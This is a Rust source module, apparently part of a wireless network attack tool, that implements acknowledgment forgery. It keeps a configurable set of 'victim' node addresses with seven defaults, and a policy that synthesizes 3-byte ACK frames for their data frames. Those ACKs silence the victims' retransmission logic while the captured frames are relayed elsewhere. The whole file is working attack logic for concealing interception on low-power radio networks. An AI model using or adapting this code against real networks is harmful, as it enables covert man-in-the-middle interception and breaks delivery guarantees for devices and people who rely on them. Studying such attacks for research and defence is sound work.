//! Acknowledgment forgery
//!
//! A capturing node answers data frames from selected "victim" nodes with a
//! synthesized ACK, so their retransmission logic stays quiet while the
//! frame is actually being relayed elsewhere.

use std::collections::HashSet;

use crate::mac::{FrameType, MacHeader, ACK_FRAME_TYPE};
use crate::types::{ExtendedAddress, ProtocolError, ACK_LEN};

/// Frames this short or shorter are never acknowledged
pub const MIN_ACKED_FRAME_LEN: usize = 3;

/// Addresses deployed as victims when none are configured
pub const DEFAULT_VICTIMS: [ExtendedAddress; 7] = [
    ExtendedAddress::new([0xaa, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x08]),
    ExtendedAddress::new([0xaa, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x0c]),
    ExtendedAddress::new([0xaa, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x07]),
    ExtendedAddress::new([0xaa, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03]),
    ExtendedAddress::new([0xaa, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x0e]),
    ExtendedAddress::new([0xaa, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x10]),
    ExtendedAddress::new([0xaa, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x13]),
];

/// Read-only set of addresses eligible for forged acknowledgments
#[derive(Debug, Clone, Default)]
pub struct VictimAddressSet {
    addresses: HashSet<ExtendedAddress>,
}

impl VictimAddressSet {
    /// The stock victim list
    #[must_use]
    pub fn default_victims() -> Self {
        DEFAULT_VICTIMS.into_iter().collect()
    }

    /// Parse a comma separated list of extended addresses
    pub fn parse_list(list: &str) -> Result<Self, ProtocolError> {
        list.split(',')
            .map(str::trim)
            .filter(|s| !s.is_empty())
            .map(str::parse::<ExtendedAddress>)
            .collect()
    }

    /// Exact membership test
    #[must_use]
    pub fn contains(&self, addr: &ExtendedAddress) -> bool {
        self.addresses.contains(addr)
    }

    #[must_use]
    pub fn len(&self) -> usize {
        self.addresses.len()
    }

    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.addresses.is_empty()
    }

    pub fn iter(&self) -> impl Iterator<Item = &ExtendedAddress> {
        self.addresses.iter()
    }
}

impl FromIterator<ExtendedAddress> for VictimAddressSet {
    fn from_iter<I: IntoIterator<Item = ExtendedAddress>>(iter: I) -> Self {
        Self {
            addresses: iter.into_iter().collect(),
        }
    }
}

/// Decides whether a captured frame earns a forged acknowledgment
#[derive(Debug, Clone)]
pub struct AckForgeryPolicy {
    victims: VictimAddressSet,
}

impl AckForgeryPolicy {
    #[must_use]
    pub fn new(victims: VictimAddressSet) -> Self {
        Self { victims }
    }

    #[must_use]
    pub fn victims(&self) -> &VictimAddressSet {
        &self.victims
    }

    /// Return the ACK to transmit, if any.
    ///
    /// All of these must hold: data frame, ack requested, extended source in
    /// the victim set, raw length above [`MIN_ACKED_FRAME_LEN`], radio enabled.
    #[must_use]
    pub fn decide(
        &self,
        header: &MacHeader,
        raw_len: usize,
        radio_enabled: bool,
    ) -> Option<[u8; ACK_LEN]> {
        if header.frame_type() != FrameType::Data || !header.ack_request() {
            return None;
        }

        let src = header.src_addr.extended()?;
        if !self.victims.contains(src) {
            return None;
        }

        if raw_len <= MIN_ACKED_FRAME_LEN || !radio_enabled {
            return None;
        }

        Some(Self::ack_for(header.sequence))
    }

    /// Build the 3-byte acknowledgment for a sequence number
    #[must_use]
    pub fn ack_for(sequence: u8) -> [u8; ACK_LEN] {
        [ACK_FRAME_TYPE, 0x00, sequence]
    }
}
